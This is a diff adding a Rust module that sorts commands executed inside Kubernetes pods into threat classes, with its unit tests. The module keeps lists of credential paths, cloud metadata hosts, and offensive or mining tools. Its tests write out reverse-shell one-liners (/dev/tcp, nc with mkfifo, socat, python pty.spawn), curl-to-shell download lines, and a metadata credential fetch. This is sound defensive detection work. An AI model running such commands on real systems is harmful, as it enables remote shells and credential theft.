@@ -1,0 +1,340 @@
+//! Classifying a decoded exec command: what was run inside the pod.
+
+/// What an exec'd command does, as far as its text shows.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum ExecClass {
+    /// A shell with no script: someone is typing.
+    InteractiveShell,
+    /// A shell connected back to a remote host (`/dev/tcp`, `nc -e`, `mkfifo`, `socat`…).
+    ReverseShell,
+    /// Fetch a script or binary and run it (`curl … | sh`, `wget -O- … | bash`).
+    DownloadAndRun,
+    /// Reading service-account tokens, kubelet or cloud credentials, SSH keys, shadow.
+    CredentialRead,
+    /// Talking to the cloud instance metadata service.
+    CloudMetadata,
+    /// `tar cf -` / `tar xf -`: `kubectl cp` copying files out of or into the container.
+    TarCopy,
+    /// Reconnaissance: who am I, where am I.
+    Discovery,
+    /// Installing tools or running known offensive tools and miners.
+    Tooling,
+}
+
+impl ExecClass {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            ExecClass::InteractiveShell => "interactive-shell",
+            ExecClass::ReverseShell => "reverse-shell",
+            ExecClass::DownloadAndRun => "download-and-run",
+            ExecClass::CredentialRead => "credential-read",
+            ExecClass::CloudMetadata => "cloud-metadata",
+            ExecClass::TarCopy => "tar-copy",
+            ExecClass::Discovery => "discovery",
+            ExecClass::Tooling => "tooling",
+        }
+    }
+}
+
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "ash",
+    "dash",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "fish",
+    "busybox",
+    "pwsh",
+    "powershell",
+    "cmd",
+    "cmd.exe",
+];
+
+/// Base name of a program path: `/usr/bin/bash` → `bash`.
+fn program(arg: &str) -> &str {
+    arg.rsplit('/').next().unwrap_or(arg)
+}
+
+fn is_shell(arg: &str) -> bool {
+    SHELLS.contains(&program(arg))
+}
+
+/// Classifies an argv. A command may fall in several classes.
+pub fn classify(argv: &[String], stdin: bool, tty: bool) -> Vec<ExecClass> {
+    let mut out = Vec::new();
+    if argv.is_empty() {
+        return out;
+    }
+    let line = argv.join(" ");
+    let lower = line.to_ascii_lowercase();
+    let shell_only = is_shell(&argv[0])
+        && argv[1..].iter().all(|a| {
+            matches!(
+                a.as_str(),
+                "-i" | "-l" | "--login" | "-il" | "-li" | "sh" | "bash"
+            )
+        });
+    if shell_only && (stdin || tty || argv.len() == 1) {
+        out.push(ExecClass::InteractiveShell);
+    }
+    if is_reverse_shell(&lower) {
+        out.push(ExecClass::ReverseShell);
+    }
+    if is_download_and_run(&lower) {
+        out.push(ExecClass::DownloadAndRun);
+    }
+    if CREDENTIAL_PATHS.iter().any(|p| lower.contains(p)) {
+        out.push(ExecClass::CredentialRead);
+    }
+    if METADATA_HOSTS.iter().any(|h| lower.contains(h)) {
+        out.push(ExecClass::CloudMetadata);
+    }
+    if is_tar_copy(argv) {
+        out.push(ExecClass::TarCopy);
+    }
+    if TOOLS.iter().any(|t| words(&lower).any(|w| w == *t)) {
+        out.push(ExecClass::Tooling);
+    }
+    if out.is_empty() && DISCOVERY.iter().any(|d| words(&lower).any(|w| w == *d)) {
+        out.push(ExecClass::Discovery);
+    }
+    out
+}
+
+fn words(s: &str) -> impl Iterator<Item = &str> {
+    s.split(|c: char| c.is_whitespace() || ";|&()'\"`$<>".contains(c))
+        .filter(|w| !w.is_empty())
+        .map(program)
+}
+
+fn is_reverse_shell(lower: &str) -> bool {
+    let has = |w: &str| words(lower).any(|x| x == w);
+    let netcat =
+        has("nc") || has("ncat") || has("netcat") || has("nc.traditional") || has("nc.openbsd");
+    let scripted_socket = (lower.contains("socket")
+        && (lower.contains("connect") || lower.contains("subprocess")))
+        || lower.contains("fsockopen")
+        || lower.contains("tcpsocket");
+    lower.contains("/dev/tcp/")
+        || lower.contains("/dev/udp/")
+        || (netcat
+            && (lower.contains(" -e ")
+                || lower.contains(" -c ")
+                || lower.contains("mkfifo")
+                || lower.contains("/bin/sh")
+                || lower.contains("/bin/bash")))
+        || (lower.contains("mkfifo") && (netcat || has("openssl") || has("telnet")))
+        || (has("socat")
+            && (lower.contains("exec:") || lower.contains("tcp:") || lower.contains("tcp4:")))
+        || lower.contains("pty.spawn")
+        || scripted_socket
+}
+
+fn is_download_and_run(lower: &str) -> bool {
+    let fetches = [
+        "curl",
+        "wget",
+        "fetch",
+        "busybox wget",
+        "python -c",
+        "python3 -c",
+        "invoke-webrequest",
+        "iwr ",
+    ]
+    .iter()
+    .any(|f| lower.contains(f));
+    if !fetches {
+        return false;
+    }
+    let pipes_to_shell = lower.split('|').skip(1).any(|seg| {
+        let first = seg.split_whitespace().next().unwrap_or_default();
+        is_shell(first)
+            || matches!(
+                program(first),
+                "python" | "python3" | "perl" | "ruby" | "php" | "node" | "sudo"
+            )
+    });
+    let runs_file = lower.contains("chmod +x")
+        || lower.contains("chmod 777")
+        || lower.contains("chmod 755")
+        || lower.contains("&& ./")
+        || lower.contains("; ./")
+        || lower.contains("| iex")
+        || lower.contains("exec(");
+    let fetched_from_url =
+        lower.contains("http://") || lower.contains("https://") || lower.contains("ftp://");
+    (pipes_to_shell || runs_file)
+        && (fetched_from_url || lower.contains("curl") || lower.contains("wget"))
+}
+
+fn is_tar_copy(argv: &[String]) -> bool {
+    let Some(first) = argv.first() else {
+        return false;
+    };
+    let tar_at = if program(first) == "tar" {
+        Some(0)
+    } else {
+        argv.iter().position(|a| program(a) == "tar")
+    };
+    let Some(i) = tar_at else {
+        return false;
+    };
+    let rest = argv[i + 1..].join(" ");
+    rest.contains("cf -")
+        || rest.contains("xf -")
+        || rest.contains("xmf -")
+        || rest.contains("-cf -")
+        || rest.contains("czf -")
+        || rest.starts_with("cf")
+        || rest.starts_with("xmf")
+        || rest.starts_with("xf")
+}
+
+const CREDENTIAL_PATHS: &[&str] = &[
+    "/var/run/secrets",
+    "/run/secrets/kubernetes.io",
+    "/etc/kubernetes",
+    "/var/lib/kubelet",
+    "/.kube",
+    "kubeconfig",
+    "/.aws",
+    "/.azure",
+    "/.config/gcloud",
+    "/.docker/config.json",
+    "/.ssh",
+    "id_rsa",
+    "id_ed25519",
+    "/etc/shadow",
+    "/proc/self/environ",
+    "/proc/1/environ",
+];
+
+const METADATA_HOSTS: &[&str] = &[
+    "169.254.169.254",
+    "metadata.google.internal",
+    "169.254.170.2",
+    "fd00:ec2::254",
+    "100.100.100.200",
+    "metadata.azure.com",
+    "169.254.169.123",
+];
+
+const TOOLS: &[&str] = &[
+    "xmrig",
+    "minerd",
+    "cpuminer",
+    "kubectl",
+    "kube-hunter",
+    "peirates",
+    "kubeletctl",
+    "nmap",
+    "masscan",
+    "zgrab",
+    "linpeas.sh",
+    "linpeas",
+    "deepce",
+    "cdk",
+    "botb",
+    "amicontained",
+    "chisel",
+    "frpc",
+    "ngrok",
+    "gsocket",
+    "tmate",
+];
+
+const DISCOVERY: &[&str] = &[
+    "whoami", "id", "uname", "hostname", "ps", "env", "printenv", "ifconfig", "ip", "netstat",
+    "ss", "mount", "df", "capsh", "nsenter",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn c(argv: &[&str]) -> Vec<&'static str> {
+        let argv: Vec<String> = argv.iter().map(|s| (*s).to_owned()).collect();
+        classify(&argv, true, true)
+            .into_iter()
+            .map(ExecClass::as_str)
+            .collect()
+    }
+
+    #[test]
+    fn shells_and_not_shells() {
+        assert_eq!(c(&["/bin/bash"]), vec!["interactive-shell"]);
+        assert_eq!(c(&["sh", "-i"]), vec!["interactive-shell"]);
+        assert!(c(&["sh", "-c", "echo hi"]).is_empty());
+        assert!(c(&["ls", "/tmp"]).is_empty());
+    }
+
+    #[test]
+    fn reverse_shells() {
+        for argv in [
+            &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"][..],
+            &[
+                "sh",
+                "-c",
+                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
+            ],
+            &["nc", "-e", "/bin/sh", "203.0.113.5", "9001"],
+            &[
+                "socat",
+                "exec:'bash -li',pty,stderr",
+                "tcp:203.0.113.5:4444",
+            ],
+            &[
+                "python3",
+                "-c",
+                "import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1));import pty; pty.spawn(\"sh\")",
+            ],
+        ] {
+            assert!(c(argv).contains(&"reverse-shell"), "{argv:?}");
+        }
+        assert!(!c(&["echo", "bash -i is a flag"]).contains(&"reverse-shell"));
+    }
+
+    #[test]
+    fn download_and_run() {
+        assert!(
+            c(&["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"]).contains(&"download-and-run")
+        );
+        assert!(
+            c(&["sh", "-c", "wget -qO- https://x.example/m | bash"]).contains(&"download-and-run")
+        );
+        assert!(
+            c(&[
+                "sh",
+                "-c",
+                "curl -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x"
+            ])
+            .contains(&"download-and-run")
+        );
+        assert!(!c(&["curl", "-s", "http://localhost:8080/healthz"]).contains(&"download-and-run"));
+    }
+
+    #[test]
+    fn credentials_metadata_and_tar() {
+        assert_eq!(
+            c(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
+            vec!["credential-read"]
+        );
+        assert_eq!(
+            c(&[
+                "curl",
+                "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+            ]),
+            vec!["cloud-metadata"]
+        );
+        assert_eq!(
+            c(&["tar", "cf", "-", "/etc/kubernetes"]),
+            vec!["credential-read", "tar-copy"]
+        );
+        assert_eq!(c(&["tar", "xmf", "-", "-C", "/tmp"]), vec!["tar-copy"]);
+        assert_eq!(c(&["id"]), vec!["discovery"]);
+        assert_eq!(c(&["/tmp/xmrig", "-o", "pool"]), vec!["tooling"]);
+    }
+}
